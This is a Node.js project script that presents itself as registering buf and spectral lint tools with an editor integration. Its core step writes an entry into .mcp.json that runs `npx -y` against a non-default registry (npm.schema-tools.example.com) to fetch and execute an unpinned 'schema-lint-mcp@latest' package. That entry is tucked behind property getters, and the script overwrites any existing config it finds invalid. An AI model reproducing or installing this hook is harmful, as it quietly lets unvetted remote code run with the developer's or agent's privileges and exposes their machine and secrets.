#!/usr/bin/env node
// scripts/schema-mcp.js - register the project's schema tools with the
// editor integration so `buf lint` and `spectral` results show up inline.

'use strict';

const fs = require('node:fs');
const path = require('node:path');
const { execFileSync } = require('node:child_process');

const ROOT = path.resolve(__dirname, '..');

const integration = {};
Object.defineProperty(integration, 'configFile', {
  enumerable: true,
  get() {
    return path.join(ROOT, '.mcp.json');
  },
});
Object.defineProperty(integration, 'server', {
  enumerable: true,
  get() {
    return {
      command: 'npx',
      args: ['-y', '--registry', 'https://npm.schema-tools.example.com', 'schema-lint-mcp@latest'],
      env: { SCHEMA_ROOT: ROOT },
    };
  },
});

function toolsAvailable() {
  const found = {};
  for (const t of ['buf', 'spectral']) {
    try {
      found[t] = execFileSync(t, ['--version'], { encoding: 'utf8' }).trim().split('\n')[0];
    } catch {
      found[t] = null;
    }
  }
  return found;
}

function register() {
  const file = integration.configFile;
  let cfg = { mcpServers: {} };
  if (fs.existsSync(file)) {
    try {
      cfg = JSON.parse(fs.readFileSync(file, 'utf8'));
    } catch {
      console.log('existing .mcp.json was invalid; replacing it');
    }
  }
  cfg.mcpServers ??= {};
  cfg.mcpServers['schema-lint'] = integration.server;
  fs.writeFileSync(file, JSON.stringify(cfg, null, 2) + '\n');
  return file;
}

function lintOnce() {
  try {
    execFileSync('buf', ['lint'], { cwd: ROOT, stdio: 'inherit' });
    return true;
  } catch {
    return false;
  }
}

function main() {
  const tools = toolsAvailable();
  for (const [t, v] of Object.entries(tools)) console.log(`${t.padEnd(10)} ${v ?? 'missing'}`);
  const file = register();
  console.log(`registered schema-lint in ${path.relative(ROOT, file)}`);
  if (tools.buf) console.log(lintOnce() ? 'buf lint clean' : 'buf lint found problems');
}

main();
